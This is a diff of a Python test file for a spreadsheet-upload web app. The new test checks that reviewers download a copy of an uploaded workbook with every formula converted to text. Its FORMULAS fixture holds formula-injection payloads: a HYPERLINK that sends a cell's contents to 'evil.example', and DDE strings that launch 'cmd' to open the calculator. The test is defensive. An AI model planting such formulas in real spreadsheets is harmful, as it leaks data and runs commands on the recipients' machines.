@@ -355,31 +355,69 @@ def test_the_rows_page_belongs_to_the_owner_unit(unit, world, catalogue, make_we
     unit.app.get(f"/cases/{world['unit_case'].id}/rows", status=404)  # not a batch
 
 
-def test_the_original_file_is_downloaded_by_the_unit_and_its_reviewers_only(unit, world, catalogue, make_web,
-                                                                           dbsession, people):
+FORMULAS = {"A1": '=HYPERLINK("http://evil.example/?"&A2,"点此查看详情")', "A2": "=cmd|' /C calc'!A0",
+            "B1": "=1+1", "B2": "@SUM(1+1)*cmd|' /C calc'!A0", "C1": "+1+cmd|' /C calc'!A0", "C2": "-2+3"}
+
+
+def with_formulas(body: bytes) -> bytes:
+    """The filled template plus a sheet of formulas a unit could slip in (the import reads the first sheet)."""
+    wb = book(body)
+    ws = wb.create_sheet("附表")
+    for ref, formula in FORMULAS.items():
+        ws[ref] = formula
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def test_the_unit_and_administrators_get_the_file_as_uploaded_reviewers_a_copy_with_formulas_as_text(
+        unit, world, catalogue, make_web, dbsession, people):
     item = catalogue.item("match_report")
-    sent = fill(unit.app.get("/items/match_report/template.xlsx").body, people, item)
+    sent = with_formulas(fill(unit.app.get("/items/match_report/template.xlsx").body, people, item))
+    uploaded = book(sent)["附表"]
+    assert [uploaded[ref].data_type for ref in FORMULAS] == ["f", "f", "f", "s", "s", "s"]   # live, as uploaded
     upload(unit, "match_report", sent, status=303, filename="九月匹配.xlsx")
     case = dbsession.scalar(select(Case).where(Case.item_key == "match_report"))
     for page in (unit.app.get(f"/cases/{case.id}"), unit.app.get(f"/cases/{case.id}/rows")):
         link = page.html.find(attrs={"data-testid": "source-file"})
-        assert link.get_text(strip=True) == "九月匹配.xlsx"
-    got = unit.app.get(link["href"])
+        assert link.get_text(strip=True) == "下载原始文件（原样）" and "九月匹配.xlsx" in link.parent.get_text()
+    original = link["href"]
+    got = unit.app.get(original)
     assert got.body == sent  # byte for byte what was uploaded
     assert got.content_type == XLSX
     assert "filename*=UTF-8''%E4%B9%9D%E6%9C%88%E5%8C%B9%E9%85%8D.xlsx" in got.headers["Content-Disposition"]
+    admin = make_web()
+    admin.login("admin", tab="staff")
+    assert admin.app.get(original).body == sent
+
     reviewer = make_web()
     reviewer.login("taiyuan", tab="staff")
-    review_page = reviewer.app.get(f"/review/cases/{case.id}")
-    assert review_page.html.find(attrs={"data-testid": "source-file"})["href"] == link["href"]
-    assert reviewer.app.get(link["href"]).body == sent
+    review_link = reviewer.app.get(f"/review/cases/{case.id}").html.find(attrs={"data-testid": "source-file"})
+    assert review_link.get_text(strip=True) == "下载原文件（公式已转为文本）"
+    reviewer.app.get(original, status=404)          # not the live file
+    copy = reviewer.app.get(review_link["href"])
+    assert copy.content_type == XLSX and copy.body != sent
+    assert "attachment" in copy.headers["Content-Disposition"] and \
+        "%E5%85%AC%E5%BC%8F%E5%B7%B2%E8%BD%AC%E4%B8%BA%E6%96%87%E6%9C%AC" in copy.headers["Content-Disposition"]
+    copied = book(copy.body)
+    assert copied.sheetnames == book(sent).sheetnames
+    assert all(cell.data_type != "f" for ws in copied.worksheets for row in ws.iter_rows() for cell in row)
+    extra = copied["附表"]
+    assert {ref: extra[ref].value for ref in FORMULAS} == {ref: "'" + text for ref, text in FORMULAS.items()}
+    rows = [[c.value for c in r] for r in copied.worksheets[0].iter_rows(min_row=2, max_row=4)]
+    assert [r[:2] for r in rows] == [[p["name"], p["id_number"]] for p in people]   # the data, where it was
+
     outsider = make_web()
     outsider.login("datong", tab="staff")
-    outsider.app.get(link["href"], status=404)
+    outsider.app.get(review_link["href"], status=404)
+    outsider.app.get(original, status=404)
     other = make_web()
     other.login(world["other"].login_name)
-    other.app.get(link["href"], status=403)
+    other.app.get(original, status=403)
+    other.app.get(review_link["href"], status=403)
+    unit.app.get(review_link["href"], status=403)       # the unit has its own file
     unit.app.get(f"/cases/{world['unit_case'].id}/import.xlsx", status=404)  # not a batch
+    reviewer.app.get(f"/cases/{world['unit_case'].id}/import-text.xlsx", status=404)
 
 
 # ---- the JSON API ------------------------------------------------------------------------------------
